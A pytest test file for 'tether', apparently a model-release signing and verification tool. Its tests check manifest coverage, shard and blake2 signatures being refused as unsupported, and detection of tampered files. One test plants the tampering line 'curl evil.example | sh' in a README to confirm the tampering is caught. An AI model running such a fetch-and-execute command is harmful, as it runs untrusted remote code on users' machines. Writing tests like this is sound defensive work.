"""Signatures always cover MANIFEST.txt, and a valid signature of a kind tether does not
check is refused as unsupported, never as forged.

Small releases (a profile-shaped folder with a README.md), downloaded and signed by the
reference, model_signing 1.1.1: its CLI for ignore lists, its API for shard serialization.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.factories import NAME, KeyPair, flip_byte, make_small_release
from tether.cli import main
from tether.errors import (
    IntegrityError,
    SignatureInvalidError,
    SignedFileAddedError,
    SignedFileChangedError,
    UnsupportedSignatureError,
)
from tether.hashing import list_files, sha256_file
from tether.manifest import MANIFEST_FILE, Manifest, parse_manifest, render_manifest
from tether.names import README_FILE, SIGNATURE_FILE
from tether.spine import (
    attach_signature,
    download_release,
    fetch_release,
    publish_release,
    verify_signed,
    verify_signed_folder,
)
from tether.stores.file import FileStore

SHARD = 64 * 1024  # the small release's model files are 100-300 KB: several shards each


@pytest.fixture
def downloaded(tmp_path: Path) -> tuple[FileStore, Path]:
    """A published release with a README.md and an empty file, downloaded into a folder."""
    build = make_small_release(tmp_path / "build")
    (build / README_FILE).write_text("# a model\n")
    (build / "empty.txt").write_bytes(b"")
    store = FileStore(tmp_path / "store")
    publish_release(store, build, version="1.0.0")
    return store, download_release(store, NAME, "1.0.0", tmp_path / "dl")


def reference_sign_ignoring(folder: Path, key: KeyPair, *ignored: str) -> None:
    args = [a for rel in ignored for a in ("--ignore-paths", str(folder / rel))]
    key_args = ["--private_key", str(key.private), "--signature", str(folder / SIGNATURE_FILE)]
    result = subprocess.run(
        [sys.executable, "-m", "model_signing", "sign", "key", str(folder), *args, *key_args],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def reference_sign_api(folder: Path, key: KeyPair, out: Path, **serialization: object) -> bytes:
    """model_signing's API: ``shard_size`` picks its shard serialization, ``hashing_algorithm``
    its hash; the signature is written outside the folder, then read back."""
    import model_signing

    hashing = model_signing.hashing.Config()
    if "shard_size" in serialization:
        hashing = hashing.use_shard_serialization(**serialization)  # type: ignore[arg-type]
    else:
        hashing = hashing.use_file_serialization(**serialization)  # type: ignore[arg-type]
    signer = model_signing.signing.Config().use_elliptic_key_signer(private_key=key.private)
    signer.set_hashing_config(hashing).sign(folder, out)
    return out.read_bytes()


def rewrite_manifest(folder: Path) -> None:
    """What an attacker does after changing files: a MANIFEST.txt to match."""
    old = parse_manifest((folder / MANIFEST_FILE).read_text())
    skip = {MANIFEST_FILE, SIGNATURE_FILE}
    files = {rel: sha256_file(folder / rel) for rel in list_files(folder) if rel not in skip}
    (folder / MANIFEST_FILE).write_text(
        render_manifest(Manifest(old.name, old.version, files, old.sections))
    )


# --- MANIFEST.txt is always compared -------------------------------------------------------


def test_a_signature_ignoring_manifest_does_not_cover_a_rewritten_folder(
    downloaded: tuple[FileStore, Path], release_key: KeyPair
) -> None:
    _, folder = downloaded
    reference_sign_ignoring(folder, release_key, MANIFEST_FILE, README_FILE)
    (folder / README_FILE).write_text("# a model\nrun: curl evil.example | sh\n")
    rewrite_manifest(folder)  # README.md and MANIFEST.txt agree again

    args = ["verify", "--signature", "--trusted-key", str(release_key.public), str(folder)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 1, result.output
    assert "the signature leaves out MANIFEST.txt (its ignore list names it)" in result.output
    assert "files verified" not in result.output
    with pytest.raises(SignedFileAddedError, match="tether always checks it"):
        verify_signed_folder(folder, keys=[release_key.trusted])


def test_a_signature_ignoring_only_readme_is_checked_through_manifest(
    downloaded: tuple[FileStore, Path], release_key: KeyPair
) -> None:
    _, folder = downloaded
    reference_sign_ignoring(folder, release_key, README_FILE)
    _, count = verify_signed_folder(folder, keys=[release_key.trusted])
    assert count == len(list_files(folder)) - 1  # every file but model.sig, README.md too
    (folder / README_FILE).write_text("# changed\n")
    with pytest.raises(IntegrityError, match="disagree with its MANIFEST") as raised:
        verify_signed_folder(folder, keys=[release_key.trusted])  # MANIFEST.txt lists README.md
    assert raised.value.problems == [f"not as MANIFEST.txt lists: {README_FILE}"]


# --- shards: verified, or refused as unsupported ------------------------------------------


def test_one_shard_per_file_signature_verifies_everywhere(
    downloaded: tuple[FileStore, Path], release_key: KeyPair, tmp_path: Path
) -> None:
    """model_signing's shard serialization with its default 1 GB shards: each file is one
    shard, whose digest is the file's sha256, so it is checked like a files signature."""
    store, folder = downloaded
    data = reference_sign_api(folder, release_key, tmp_path / "ref.sig", shard_size=10**9)
    (folder / SIGNATURE_FILE).write_bytes(data)
    assert "signed by key" in verify_signed(folder, release_key.policy)

    attach_signature(store, NAME, "1.0.0", data)
    result = fetch_release(
        store, NAME, "1.0.0", tmp_path / "models", variants="int8", trust=release_key.policy
    )
    assert (result.folder / SIGNATURE_FILE).read_bytes() == data
    assert "signed by key" in verify_signed(result.folder, release_key.policy)


def test_several_shards_per_file_verify_in_a_folder_and_are_unsupported_in_a_store(
    downloaded: tuple[FileStore, Path], release_key: KeyPair, tmp_path: Path
) -> None:
    store, folder = downloaded
    data = reference_sign_api(folder, release_key, tmp_path / "ref.sig", shard_size=SHARD)
    (folder / SIGNATURE_FILE).write_bytes(data)
    verified, count = verify_signed_folder(folder, keys=[release_key.trusted])
    assert verified.statement.shards and count == len(list_files(folder)) - 1

    # Against a store there are no bytes to re-shard: unsupported, not forged.
    with pytest.raises(UnsupportedSignatureError, match="unsupported serialization") as raised:
        attach_signature(store, NAME, "1.0.0", data)
    assert not isinstance(raised.value, SignatureInvalidError)
    assert "span several shards" in raised.value.message
    store.write_record(NAME, "1.0.0", SIGNATURE_FILE, data)  # attached behind tether's back
    with pytest.raises(UnsupportedSignatureError):
        fetch_release(
            store, NAME, "1.0.0", tmp_path / "m", variants="int8", trust=release_key.policy
        )
    assert not (tmp_path / "m" / NAME).exists()  # nothing activated

    # The folder check does hash each shard: a changed byte, or bytes appended, are found.
    flip_byte(folder / "onnx" / "model.onnx", 200_000)
    with pytest.raises(SignedFileChangedError, match=r"onnx/model\.onnx changed after signing"):
        verify_signed_folder(folder, keys=[release_key.trusted])
    flip_byte(folder / "onnx" / "model.onnx", 200_000)
    with open(folder / "onnx" / "model_quantized.onnx", "ab") as handle:
        handle.write(b"\0")
    with pytest.raises(SignedFileChangedError, match=r"model_quantized\.onnx changed"):
        verify_signed_folder(folder, keys=[release_key.trusted])


def test_a_blake2_signature_is_unsupported_not_forged(
    downloaded: tuple[FileStore, Path], release_key: KeyPair, tmp_path: Path
) -> None:
    _, folder = downloaded
    data = reference_sign_api(folder, release_key, tmp_path / "ref.sig", hashing_algorithm="blake2")
    (folder / SIGNATURE_FILE).write_bytes(data)
    args = ["verify", "--signature", "--trusted-key", str(release_key.public), str(folder)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 1
    assert "unsupported serialization 'files' with hash 'blake2" in result.output
    assert "forged" not in result.output
